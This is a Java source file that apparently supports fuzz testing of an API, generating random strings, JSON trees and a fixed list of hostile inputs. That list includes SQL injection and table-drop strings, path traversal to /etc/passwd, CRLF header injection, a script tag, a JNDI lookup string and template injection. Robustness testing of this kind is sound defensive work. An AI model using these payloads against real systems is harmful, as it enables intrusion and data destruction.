package dev.readout.api;

import java.util.List;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;

/** Values that nobody means well with, or none at all. */
record RandomValues(Random random) {
    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "'",
            "' OR 1=1 --",
            "'; DROP TABLE documents; --",
            "%5C",
            "%5C%27%20OR%201=1",
            "\" UNION SELECT * FROM texts --",
            "%",
            "%%",
            "%2",
            "%zz",
            "%00",
            "%0d%0aSet-Cookie:%20a=b",
            "%ff%fe",
            "%c0%ae%c0%ae%2f",
            "%ed%a0%80",
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "..;/",
            "-1",
            "0",
            "1e309",
            "99999999999999999999999999",
            "-9223372036854775808",
            "NaN",
            "null",
            "undefined",
            "true",
            "TRUE",
            "{}",
            "[]",
            "{\"a\":1}",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "%E2%80%AE%E2%80%8F",
            "%F0%9F%98%80",
            "%EF%BF%BF",
            "9999-99-99",
            "0000-00-00",
            "2024-02-30",
            "+2024",
            "2024-1",
            "*",
            "a*b?c",
            ";",
            "&",
            "=",
            "a=b",
            "#",
            "ZGF5HzIwMjQ",
            "ZGF5HzIwMjQfMR8x",
            "dGV4dB9hH2IfYw",
            "ZG9jdW1lbnRzHx8",
            "YWN0b3JzHwA",
            "aXNzdWVzHx8fHx8");

    String value() {
        return switch (random.nextInt(6)) {
            case 0 -> "a".repeat(random.nextInt(9000));
            case 1 -> letters();
            case 2 -> HOSTILE.get(random.nextInt(HOSTILE.size())) + HOSTILE.get(random.nextInt(HOSTILE.size()));
            default -> HOSTILE.get(random.nextInt(HOSTILE.size()));
        };
    }

    /** Any characters but those that end a line, so that it stays one request. */
    private String letters() {
        StringBuilder letters = new StringBuilder();
        for (int i = random.nextInt(20); i >= 0; i--) {
            int point = random.nextInt(random.nextBoolean() ? 0x80 : 0x3000);
            letters.appendCodePoint(point == '\r' || point == '\n' ? '_' : point);
        }
        return letters.toString();
    }

    JsonNode any(int depth) {
        return switch (random.nextInt(depth < 3 ? 9 : 7)) {
            case 0 -> OpenServer.JSON.nullNode();
            case 1 -> OpenServer.JSON.valueToTree(random.nextInt());
            case 2 -> OpenServer.JSON.valueToTree(1e300 * random.nextGaussian());
            case 3 -> OpenServer.JSON.valueToTree(random.nextBoolean());
            case 4, 5, 6 -> OpenServer.JSON.valueToTree(value());
            case 7 -> {
                ArrayNode list = OpenServer.JSON.createArrayNode();
                for (int i = random.nextInt(4); i > 0; i--) {
                    list.add(any(depth + 1));
                }
                yield list;
            }
            default -> OpenServer.JSON.createObjectNode().set(value(), any(depth + 1));
        };
    }
}
